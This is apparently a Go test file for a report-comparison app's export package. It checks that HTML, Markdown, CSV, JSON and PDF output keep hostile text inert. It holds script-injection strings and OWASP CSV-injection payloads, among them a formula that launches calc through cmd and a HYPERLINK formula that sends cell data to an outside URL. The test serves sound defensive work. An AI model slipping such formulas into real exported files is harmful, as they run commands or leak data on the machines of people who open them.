package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"parallax/app"
	"parallax/app/compare"
	"parallax/app/export"
)

// hostile is report text that would break a naive writer.
const hostile = "Police said <script>alert(\"x\")</script> 12 people, \"at least\" </td></tr> died, at Kivangu's port.\n" +
	"Second line, with a comma & an ampersand."

// hostileNote is a note that would break a naive writer: markup, quotes,
// commas, line breaks and Markdown syntax at the start of a line.
const hostileNote = "Check <script>alert('n')</script> and </td></tr><td>, \"quoted\", too.\n- not a list\n# not a heading\n\nSecond paragraph, with a comma."

// hostileMemo compares two hostile reports and puts hostile notes on every
// row, in the summary, in the name and in an orphan.
func hostileMemo(t testing.TB, note string) *export.Memo {
	reports := []app.Report{
		{ID: 1, Title: "One <b>", FileName: "a.txt", Text: hostile + "\n\nThe ferry sank on Tuesday.\n"},
		{ID: 2, Title: "Two </td>", FileName: "b.txt", Text: strings.Replace(hostile, "12", "15", 1) + "\n\nThe ferry sank on Tuesday.\n"},
	}
	c, err := compare.Texts(context.Background(), reports, compare.Options{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	m := &export.Memo{C: c, Name: "<i>Name</i>, \"quoted\"", Summary: note, Notes: make([][]app.Note, len(c.Rows))}
	for i := range c.Rows {
		m.Notes[i] = []app.Note{{Verdict: app.Disputed, Text: note}, {Verdict: app.Verdict("<b>odd</b>"), Text: note}}
	}
	m.Orphans = []app.Note{{Text: note, Anchors: []app.Anchor{{Report: 1, Text: hostile}, {Report: 7, Text: note}}}}
	return m
}

// write writes m in format or fails the test.
func write(t testing.TB, format string, m *export.Memo) string {
	var b bytes.Buffer
	if err := export.Write(&b, format, m, export.Options{}); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// checkHostile checks that report and note text is inert in HTML and
// Markdown, and intact in CSV and JSON.
func checkHostile(t testing.TB, m *export.Memo, note string) {
	var claims []string
	for _, d := range m.C.Docs {
		for i := range d.Claims {
			claims = append(claims, d.ClaimText(i))
		}
	}

	page := write(t, "html", m)
	for _, bad := range []string{"<script", "</td></tr> died", "One <b>", "Two </td>", "<b>odd", "<i>Name",
		"src=", "href=", "@import", "url("} {
		if strings.Contains(page, bad) {
			t.Errorf("HTML contains %q", bad)
		}
	}
	if strings.Count(page, "<td") != strings.Count(page, "</td>") || strings.Count(page, "<tr") != strings.Count(page, "</tr>") {
		t.Error("HTML cells or rows are unbalanced")
	}

	checkSafeCSV(t, m)
	var raw bytes.Buffer
	if err := export.Write(&raw, "csv", m, export.Options{RawCSV: true}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&raw).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cells := map[string]bool{}
	for _, rec := range recs {
		if len(rec) != len(m.C.Docs)+7 {
			t.Errorf("CSV record of %d fields", len(rec))
		}
		for _, f := range rec {
			cells[f] = true
		}
	}
	// The CSV writes line ends as LF: encoding/csv reads CR LF as LF.
	wantNote := strings.NewReplacer("\r\n", "\n", "\r", "\n").Replace(note)
	if len(recs) > 1 && !strings.HasPrefix(recs[1][len(m.C.Docs)+3], wantNote) {
		t.Errorf("CSV note cell %q, want it to start %q", recs[1][len(m.C.Docs)+3], wantNote)
	}

	var out struct {
		Documents []struct{ Claims []struct{ Text string } }
		Rows      []struct {
			Notes []struct{ Verdict, Text string }
		}
		Summary string
		Orphans []struct{ Text string }
	}
	if err := json.Unmarshal([]byte(write(t, "json", m)), &out); err != nil {
		t.Fatal(err)
	}
	texts := map[string]bool{}
	for _, d := range out.Documents {
		for _, cl := range d.Claims {
			texts[cl.Text] = true
		}
	}
	for _, r := range out.Rows {
		if len(r.Notes) != 2 || r.Notes[0].Text != note || r.Notes[1].Verdict != "<b>odd</b>" {
			t.Errorf("JSON notes %+v", r.Notes)
		}
	}
	if out.Summary != note || len(out.Orphans) != 1 || out.Orphans[0].Text != note {
		t.Errorf("JSON summary %q, orphans %+v", out.Summary, out.Orphans)
	}
	for _, cl := range claims {
		if !cells[cl] {
			t.Errorf("CSV lost %q", cl)
		}
		if !texts[cl] {
			t.Errorf("JSON lost %q", cl)
		}
	}

	md := write(t, "md", m)
	if strings.Contains(strings.ReplaceAll(md, `\<`, ""), "<") {
		t.Error("Markdown passes raw HTML through")
	}
	for _, l := range strings.Split(md, "\n") {
		if strings.HasPrefix(strings.TrimLeft(l, " "), "# not") || strings.HasPrefix(strings.TrimLeft(l, " "), "- not") {
			t.Errorf("Markdown lets a note open a block: %q", l)
		}
	}
	if pdf := write(t, "pdf", m); !strings.HasPrefix(pdf, "%PDF-") {
		t.Errorf("PDF starts %.10q", pdf)
	}
}

// checkSafeCSV checks the CSV as written by default against the raw one:
// the same records, no cell a spreadsheet would run as a formula, and each
// cell the raw one or the raw one after a "'".
func checkSafeCSV(t testing.TB, m *export.Memo) {
	read := func(opt export.Options) [][]string {
		var b bytes.Buffer
		if err := export.Write(&b, "csv", m, opt); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return recs
	}
	safe, raw := read(export.Options{}), read(export.Options{RawCSV: true})
	if len(safe) != len(raw) {
		t.Fatalf("safe CSV has %d records, raw %d", len(safe), len(raw))
	}
	for i := range safe {
		for j, cell := range safe[i] {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("CSV cell %q would run as a formula", cell)
			}
			if cell != raw[i][j] && cell != "'"+raw[i][j] {
				t.Errorf("CSV cell %q, raw %q", cell, raw[i][j])
			}
		}
	}
}

// TestCSVFormulas writes report text and notes that a spreadsheet would
// run (the CSV-injection payloads of OWASP's guide) and checks that the
// default CSV makes each of them inert with a leading "'", that --raw's
// CSV and the JSON keep them exact, and that harmless cells are untouched.
func TestCSVFormulas(t *testing.T) {
	payloads := []string{"=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
		`=HYPERLINK("http://example.org/?x="&A1,"click")`}
	for _, p := range payloads {
		m := hostileMemo(t, p)
		var b bytes.Buffer
		if err := export.Write(&b, "csv", m, export.Options{}); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		note := strings.NewReplacer("\r\n", "\n", "\r", "\n").Replace(p)
		if got := recs[1][len(m.C.Docs)+3]; !strings.HasPrefix(got, "'"+note) {
			t.Errorf("note %q: CSV cell %q, want it to start with a quote", p, got)
		}
		if got := recs[1][0]; strings.HasPrefix(got, "'") {
			t.Errorf("harmless claim cell %q was changed", got)
		}
		checkSafeCSV(t, m)
		checkHostile(t, m, p)
	}
}

func TestHostileText(t *testing.T) {
	m := hostileMemo(t, hostileNote)
	var quoted int
	for _, d := range m.C.Docs {
		for i := range d.Claims {
			if strings.ContainsAny(d.ClaimText(i), "<,\"") {
				quoted++
			}
		}
	}
	if quoted == 0 {
		t.Fatal("no claim holds the hostile characters")
	}
	checkHostile(t, m, hostileNote)
}

// FuzzNoteText writes notes of any text in every format.
func FuzzNoteText(f *testing.F) {
	for _, s := range []string{hostileNote, "", " ", "\r\n", "a,b\r\nc", "1. one\n2) two", "=\n~~~", "\\", "{+x+} [-y-]",
		"https://example.org/<x>", strings.Repeat("long", 200), "Дж ș ğ 渡轮 \u200b\ufeff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, note string) {
		if !utf8.ValidString(note) {
			t.Skip("the library holds valid UTF-8 only (ingest cleans it)")
		}
		checkHostile(t, hostileMemo(t, note), note)
	})
}
